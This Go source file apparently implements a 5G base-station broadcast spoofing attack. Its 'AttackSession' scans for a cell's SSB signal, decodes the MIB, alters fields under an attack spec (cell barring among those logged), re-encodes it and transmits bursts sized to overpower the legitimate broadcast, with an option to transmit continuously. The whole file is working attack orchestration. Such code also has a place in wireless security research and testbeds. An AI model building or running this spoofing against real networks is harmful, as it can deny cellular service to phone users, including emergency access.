package ssbspoof

import (
	"fmt"
	"time"

	"github.com/google/uuid"
)

// Spoofed bursts are normalized to this fraction of full scale so they
// out-power the legitimate broadcast at the receiver.
const targetAmplitude = 0.7

type SessionState string

const (
	StateIdle         SessionState = "idle"
	StateScanning     SessionState = "scanning"
	StateNotFound     SessionState = "not_found"
	StateFound        SessionState = "found"
	StateComposing    SessionState = "composing"
	StateTransmitting SessionState = "transmitting"
	StateCompleted    SessionState = "completed"
	StateAborted      SessionState = "aborted"
)

// SessionDeps carries the cross-cutting collaborators of a session. Sink and
// Ledger are optional.
type SessionDeps struct {
	Logger  Logger
	Metrics MetricsCollector
	Sink    EventSink
	Board   *StatusBoard
	Ledger  *AttackLedger
	Token   *CancelToken
}

// AttackSession owns one end-to-end scan-then-spoof run: scan, modify,
// encode, compose, transmit. Exclusively owned by a single control goroutine.
type AttackSession struct {
	ID       string
	cfg      *Config
	radio    Radio
	detector Detector
	deps     SessionDeps

	state       SessionState
	result      DetectionResult
	modifiedMIB MIB
	plan        BurstPlan
	stats       Statistics
}

func NewAttackSession(cfg *Config, radio Radio, detector Detector, deps SessionDeps) *AttackSession {
	if deps.Sink == nil {
		deps.Sink = NopSink{}
	}
	if deps.Metrics == nil {
		deps.Metrics = NewInMemoryMetricsCollector()
	}
	if deps.Token == nil {
		deps.Token = NewCancelToken()
	}
	s := &AttackSession{
		ID:       uuid.NewString(),
		cfg:      cfg,
		radio:    radio,
		detector: detector,
		deps:     deps,
		state:    StateIdle,
	}
	if deps.Board != nil {
		deps.Board.SetSessionID(s.ID)
	}
	return s
}

func (s *AttackSession) State() SessionState    { return s.state }
func (s *AttackSession) Result() DetectionResult { return s.result }
func (s *AttackSession) ModifiedMIB() MIB       { return s.modifiedMIB }
func (s *AttackSession) Plan() BurstPlan        { return s.plan }
func (s *AttackSession) Stats() Statistics      { return s.stats }

func (s *AttackSession) setState(state SessionState) {
	s.state = state
	if s.deps.Board != nil {
		s.deps.Board.SetState(string(state))
	}
}

// Run executes the session to a terminal state. The returned error is nil
// only for Completed; NotFound yields ErrDetectionMiss and Aborted one of
// ErrEncode / ErrTransmitAbort / ErrDevice.
func (s *AttackSession) Run() error {
	res, err := s.scan()
	if err != nil {
		s.setState(StateAborted)
		return err
	}
	if !res.Found {
		s.setState(StateNotFound)
		return fmt.Errorf("%w: no SSB found within %.1fs", ErrDetectionMiss, s.cfg.Operation.ScanDurationSec)
	}

	s.result = res
	s.setState(StateFound)
	s.logMIB(res.MIB)
	if s.deps.Ledger != nil {
		if err := s.deps.Ledger.RecordDetection(s.ID, res); err != nil {
			s.deps.Logger.Warn("ledger write failed", map[string]any{"error": err.Error()})
		}
	}

	if err := s.compose(); err != nil {
		s.setState(StateAborted)
		return err
	}

	if err := s.transmit(); err != nil {
		s.setState(StateAborted)
		return err
	}

	s.setState(StateCompleted)
	return nil
}

func (s *AttackSession) scan() (DetectionResult, error) {
	s.setState(StateScanning)

	var fileSink *SampleFileSink
	if s.cfg.Operation.SaveSamples {
		sink, err := NewSampleFileSink(s.cfg.Operation.SamplesFile)
		if err != nil {
			s.deps.Logger.Warn("could not open sample capture file", map[string]any{
				"file":  s.cfg.Operation.SamplesFile,
				"error": err.Error(),
			})
		} else {
			fileSink = sink
			s.deps.Logger.Info("file sink enabled", map[string]any{
				"file":      fileSink.Path(),
				"srate_mhz": s.cfg.RF.SampleRateHz / 1e6,
			})
			defer func() {
				fileSink.Close()
				s.deps.Logger.Info("file sink summary", map[string]any{
					"file":         fileSink.Path(),
					"samples":      fileSink.Total(),
					"duration_sec": float64(fileSink.Total()) / s.cfg.RF.SampleRateHz,
				})
			}()
		}
	}

	controller := NewScanController(s.radio, s.detector, s.deps.Logger, s.deps.Metrics, s.deps.Sink, s.deps.Token)
	return controller.Scan(ScanOptions{
		SampleRateHz: s.cfg.RF.SampleRateHz,
		WindowMs:     s.cfg.Operation.ScanWindowMs,
		Duration:     time.Duration(s.cfg.Operation.ScanDurationSec * float64(time.Second)),
		TargetPCI:    s.cfg.TargetFilter(),
		WarmUp:       true,
		FileSink:     fileSink,
	})
}

func (s *AttackSession) compose() error {
	s.setState(StateComposing)

	modified, changed := ApplySpec(s.result.MIB, s.cfg.Spec())
	if !changed {
		s.deps.Logger.Warn("no attack modifications enabled, transmitting unmodified MIB", nil)
	}
	s.modifiedMIB = modified

	msg, err := s.detector.Encode(modified, s.result.SSBIdx, s.result.MIB.HRF)
	if err != nil {
		return fmt.Errorf("%w: packing MIB: %v", ErrEncode, err)
	}

	unit, err := s.detector.Generate(s.result.PCI, msg, s.result.SSBIdx)
	if err != nil {
		return fmt.Errorf("%w: generating SSB signal: %v", ErrEncode, err)
	}

	plan, err := Compose(unit, s.cfg.Attack.BurstLengthMs, targetAmplitude)
	if err != nil {
		return fmt.Errorf("%w: composing burst: %v", ErrEncode, err)
	}
	s.plan = plan

	burstDuration := float64(len(plan.Composed)) / s.cfg.RF.SampleRateHz * 1000.0
	intervalMs := float64(s.cfg.Attack.BurstIntervalUs) / 1000.0
	s.deps.Logger.Info("transmission parameters", map[string]any{
		"samples_per_burst": len(plan.Composed),
		"burst_length_ms":   s.cfg.Attack.BurstLengthMs,
		"interval_ms":       intervalMs,
		"effective_rate":    1000.0 / (burstDuration + intervalMs),
		"scale_factor":      plan.ScaleFactor,
		"tx_gain_db":        s.cfg.RF.TxGainDB,
	})
	return nil
}

func (s *AttackSession) transmit() error {
	s.setState(StateTransmitting)

	scheduler := NewBurstScheduler(s.radio, s.deps.Logger, s.deps.Metrics, s.deps.Sink, s.deps.Token)
	stats, err := scheduler.Run(s.plan.Composed, BurstOptions{
		Continuous: s.cfg.Attack.ContinuousTx,
		Interval:   time.Duration(s.cfg.Attack.BurstIntervalUs) * time.Microsecond,
		Bounds:     BurstBounds{MaxBursts: s.cfg.Attack.MaxBursts},
	})
	s.stats = stats

	if s.deps.Ledger != nil {
		state := StateCompleted
		if err != nil {
			state = StateAborted
		}
		if lerr := s.deps.Ledger.RecordRun(s.ID, string(state), stats); lerr != nil {
			s.deps.Logger.Warn("ledger write failed", map[string]any{"error": lerr.Error()})
		}
	}
	if err != nil {
		return err
	}

	s.deps.Logger.Info("attack statistics", map[string]any{
		"bursts_sent":    stats.SentCount,
		"duration_sec":   stats.Elapsed.Seconds(),
		"rate_per_sec":   stats.AvgRate,
		"total_samples":  stats.TotalSamples,
		"avg_burst_ms":   float64(stats.AvgBurstTime) / float64(time.Millisecond),
		"attack_ratio":   stats.AttackRatio,
	})
	return nil
}

func (s *AttackSession) logMIB(mib MIB) {
	s.deps.Logger.Info("mib decoded", map[string]any{
		"sfn":              mib.SFN,
		"ssb_idx":          mib.SSBIdx,
		"hrf":              mib.HRF,
		"scs_common_khz":   mib.SCSCommonKHz,
		"ssb_offset":       mib.SSBOffset,
		"dmrs_typea_pos":   mib.DMRSTypeAPos,
		"coreset0_idx":     mib.Coreset0Idx,
		"ss0_idx":          mib.SS0Idx,
		"cell_barred":      mib.CellBarred,
		"intra_freq_resel": mib.IntraFreqReselection,
	})
}
